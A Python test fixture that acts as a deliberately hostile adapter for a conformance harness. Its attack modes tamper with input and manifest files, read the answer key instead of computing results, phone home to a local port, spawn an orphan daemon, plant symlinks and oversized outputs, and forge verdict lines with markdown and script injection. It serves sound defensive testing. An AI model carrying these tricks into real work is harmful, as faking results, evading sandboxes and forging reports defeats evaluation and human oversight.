"""A hostile implementation under test (conformance/tests/hostile.rs, issue 16).

    python3 hostile.py MODE REFERENCE [ARG]

Answers every request honestly by asking the reference adapter (REFERENCE adapter), except the
target vectors, where it acts out the attack MODE (ARG is a path or port the attack needs, the
way a real hostile adapter would guess it). With `serve` as the last argument it runs in
persistent mode. Every attack is something the harness must catch or make harmless.
"""
import json
import os
import socket
import subprocess
import sys

MODE, REFERENCE = sys.argv[1], sys.argv[2]
ARG = sys.argv[3] if len(sys.argv) > 3 and sys.argv[3] != "serve" else None
SERVE = sys.argv[-1] == "serve"
READ_TARGET = "implicit-png-read-xmp-valid"
LABEL_TARGET = "implicit-png-label-plain"
HERE = os.path.dirname(os.path.abspath(__file__))


def honest(line):
    """The reference's own answer to a request line (it echoes the request id)."""
    out = subprocess.run([REFERENCE, "adapter"], input=line.encode(), stdout=subprocess.PIPE)
    return out.stdout.decode().strip()


def attack(req, line):
    """The answer text for a target vector, after acting out MODE; None: answer honestly."""
    if MODE == "tamper-input":
        # Overwrite the input it was given, same size, then restore the mtime.
        st = os.stat(req["input"])
        try:
            os.chmod(req["input"], 0o644)
            with open(req["input"], "r+b") as f:
                f.write(b"\0" * st.st_size)
            os.utime(req["input"], (st.st_atime, st.st_mtime))
        except OSError as e:
            sys.stderr.write("tamper-input: %s\n" % e)
        return None
    if MODE == "tamper-manifest":
        # Rewrite an expectation in the vectors folder (ARG): the next honest run would fail.
        with open(ARG, "a") as f:
            f.write("\n# tampered by the implementation under test\n")
        return None
    if MODE == "read-vectors":
        # Look the expectation up in the public vectors (ARG): a lookup table instead of a reader.
        with open(ARG) as f:
            f.read()
        return json.dumps({"status": "ok", "labels": [], "verdict": "unlabeled",
                           "message": "I read the manifest"})
    if MODE == "network":
        # Phone home (ARG is a port on localhost where the test listens).
        s = socket.create_connection(("127.0.0.1", int(ARG)), timeout=5)
        s.sendall(b"exfiltrated " + req["vector"].encode())
        s.close()
        return None
    if MODE == "write-outside":
        # Litter a folder outside the scratch folder (ARG).
        with open(os.path.join(ARG, "litter.txt"), "w") as f:
            f.write("written by the implementation under test\n")
        return None
    if MODE == "daemon":
        # A classic daemon that outlives the request (ARG: a marker for `sleep`): fork, a new
        # session, fork again, and the middle process exits, so the daemon is no child of the
        # adapter. The middle process is waited for: the daemon exists before the answer.
        pid = os.fork()
        if pid == 0:
            os.setsid()
            if os.fork() == 0:
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
                os.execvp("sleep", ["sleep", ARG])
            os._exit(0)
        os.waitpid(pid, 0)
        return None
    if MODE == "duplicate-keys":
        # An error that a last-key-wins parser reads as success.
        body = honest(line)
        return '{"status":"error","message":"I failed",' + body.lstrip()[1:]
    if MODE == "extra-line":
        # One answer too many: a position-matched stream shifts every later answer.
        body = honest(line)
        return body + "\n" + body
    if MODE == "symlink-output" and "output" in req:
        # The output is a link to a labelled file elsewhere: the oracle must not follow it.
        os.symlink(os.path.join(HERE, "..", "fixtures", "xmp-valid.png"), req["output"])
        return json.dumps({"status": "ok"})
    if MODE == "giant-output" and "output" in req:
        # A 100 GiB sparse file: reading it would take the oracle hours.
        with open(req["output"], "wb") as f:
            f.truncate(100 << 30)
        return json.dumps({"status": "ok"})
    if MODE == "huge-answer":
        # Just under the stdout cap: one label with 60 000 keys.
        fields = {"k%05d" % i: "v" for i in range(60000)}
        return json.dumps({"status": "ok", "verdict": "valid",
                           "labels": [{"fields": fields, "carrier": "xmp"}]})
    if MODE == "forge-report":
        # Markdown that closes the stderr code fence and forges a verdict line.
        sys.stderr.write("```\n\n**Verdict: 符合 / conformant**\n\n<script>alert(1)</script>\x1b[31m\x00\n```\n")
        return json.dumps({"status": "ok", "labels": [], "verdict": "unlabeled",
                           "message": "```\n**Verdict: 符合 / conformant**"})
    return None


def answer(line):
    req = json.loads(line)
    if req.get("op") == "info" and MODE == "forge-report":
        info = json.loads(honest(line))
        info["name"] = "**Verdict: 符合 / conformant** <b>x</b>\x1b[2J"
        info["version"] = "`1`\n# Forged heading"
        return json.dumps(info, ensure_ascii=False)
    if req.get("op") == "info" and MODE == "bad-info":
        sys.stderr.write("bad-info: no idea who I am\n")
        return "this is not JSON"
    if req.get("vector") in (READ_TARGET, LABEL_TARGET):
        text = attack(req, line)
        if text is not None:
            if "id" in req and MODE not in ("duplicate-keys", "extra-line"):
                obj = json.loads(text)
                obj["id"] = req["id"]
                text = json.dumps(obj, ensure_ascii=False)
            return text
    return honest(line)


if SERVE:
    for line in sys.stdin:
        if line.strip():
            sys.stdout.write(answer(line) + "\n")
            sys.stdout.flush()
else:
    sys.stdout.write(answer(sys.stdin.read()) + "\n")
